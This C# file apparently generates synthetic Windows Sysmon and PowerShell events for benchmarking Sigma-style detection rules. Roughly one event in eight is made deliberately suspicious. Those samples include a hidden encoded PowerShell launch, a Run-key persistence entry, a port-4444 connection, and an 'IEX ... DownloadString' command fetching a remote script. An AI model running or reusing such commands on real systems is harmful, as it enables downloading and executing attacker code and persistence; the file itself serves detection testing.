using System.Globalization;
using CyberAgg.Events;

namespace CyberAgg.Benchmarks.Rules;

/// <summary>
/// Windows events as the agent stores them (ECS core, the Windows fields as attributes), varied per index so no
/// two are alike; one in eight looks like something a Sigma rule hunts for.
/// </summary>
public static class WindowsEvents
{
    private const string Sysmon = "Microsoft-Windows-Sysmon/Operational";

    private static readonly string[] Images =
    [
        @"C:\Windows\System32\svchost.exe", @"C:\Program Files\Mozilla Firefox\firefox.exe", @"C:\Windows\explorer.exe",
        @"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", @"C:\Windows\System32\cmd.exe", @"C:\Users\alice\AppData\Local\Temp\upd.exe",
        @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", @"C:\Windows\System32\rundll32.exe",
    ];

    private static readonly string[] CommandLines =
    [
        "svchost.exe -k netsvcs -p -s Schedule", "firefox.exe -contentproc --channel=1234", "explorer.exe /factory,{75dff2b7}",
        "WINWORD.EXE /n \"C:\\Users\\alice\\Documents\\report.docx\"", "cmd.exe /c dir C:\\Users", "upd.exe --silent",
        "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\scripts\\inventory.ps1", "rundll32.exe shell32.dll,Control_RunDLL",
    ];

    public static SecurityEvent ProcessCreation(int i, DateTimeOffset at)
    {
        var e = Base(i, at, "process", "1");
        e.Attributes["Image"] = Images[i % Images.Length];
        e.Attributes["OriginalFileName"] = Path.GetFileName(Images[i % Images.Length]);
        e.Attributes["CommandLine"] = i % 8 == 7 ? "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIAA=" : CommandLines[i % CommandLines.Length] + " " + i.ToString(CultureInfo.InvariantCulture);
        e.Attributes["ParentImage"] = Images[(i / 8) % Images.Length];
        e.Attributes["ParentCommandLine"] = CommandLines[(i / 8) % CommandLines.Length];
        e.Attributes["CurrentDirectory"] = @"C:\Users\alice\";
        e.Attributes["IntegrityLevel"] = i % 3 == 0 ? "High" : "Medium";
        e.Attributes["Hashes"] = "SHA256=" + i.ToString("x64", CultureInfo.InvariantCulture);
        return e;
    }

    public static SecurityEvent NetworkConnection(int i, DateTimeOffset at)
    {
        var e = Base(i, at, "network", "3");
        e.Attributes["Image"] = Images[i % Images.Length];
        e.Attributes["Initiated"] = "true";
        e.Attributes["Protocol"] = "tcp";
        e.Attributes["DestinationIp"] = string.Create(CultureInfo.InvariantCulture, $"52.{(i >> 8) & 255}.{i & 255}.10");
        e.Attributes["DestinationPort"] = i % 8 == 7 ? "4444" : "443";
        e.Attributes["DestinationHostname"] = i % 8 == 7 ? "pastebin.com" : $"host{i % 500}.example.org";
        e.DestinationIp = e.Attributes["DestinationIp"];
        e.DestinationPort = i % 8 == 7 ? 4444 : 443;
        return e;
    }

    public static SecurityEvent RegistrySet(int i, DateTimeOffset at)
    {
        var e = Base(i, at, "registry", "13");
        e.Attributes["EventType"] = "SetValue";
        e.Attributes["Image"] = Images[i % Images.Length];
        e.Attributes["TargetObject"] = i % 8 == 7
            ? @"HKU\S-1-5-21-1\Software\Microsoft\Windows\CurrentVersion\Run\Updater"
            : $@"HKLM\SOFTWARE\Vendor\App{i % 300}\Settings\Value{i % 7}";
        e.Attributes["Details"] = i % 8 == 7 ? @"C:\Users\alice\AppData\Local\Temp\upd.exe" : "DWORD (0x00000001)";
        return e;
    }

    public static SecurityEvent PowerShellScript(int i, DateTimeOffset at)
    {
        var e = Base(i, at, "process", "4104");
        e.Attributes["Channel"] = "Microsoft-Windows-PowerShell/Operational";
        e.Attributes["ScriptBlockText"] = i % 8 == 7
            ? "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')"
            : $"Get-ChildItem -Path C:\\Logs\\{i % 100} | Where-Object {{ $_.Length -gt 1MB }} | Remove-Item";
        e.Attributes["Path"] = @"C:\scripts\maintenance.ps1";
        return e;
    }

    private static SecurityEvent Base(int i, DateTimeOffset at, string category, string eventId)
    {
        var e = new SecurityEvent
        {
            Timestamp = at.AddMilliseconds(i),
            Partner = "ee-cert",
            Country = "EE",
            ObserverName = "win-sensor-" + (i % 16).ToString(CultureInfo.InvariantCulture),
            EventId = i.ToString("x32", CultureInfo.InvariantCulture),
            Kind = "event",
            Category = category,
            Severity = 2,
            HostName = "WS-" + (i % 200).ToString("D4", CultureInfo.InvariantCulture),
            UserName = @"CORP\alice",
            Message = "Windows event",
        };
        e.Attributes["Channel"] = Sysmon;
        e.Attributes["EventID"] = eventId;
        e.Attributes["Computer"] = e.HostName;
        e.Attributes["User"] = @"CORP\alice";
        return e;
    }
}
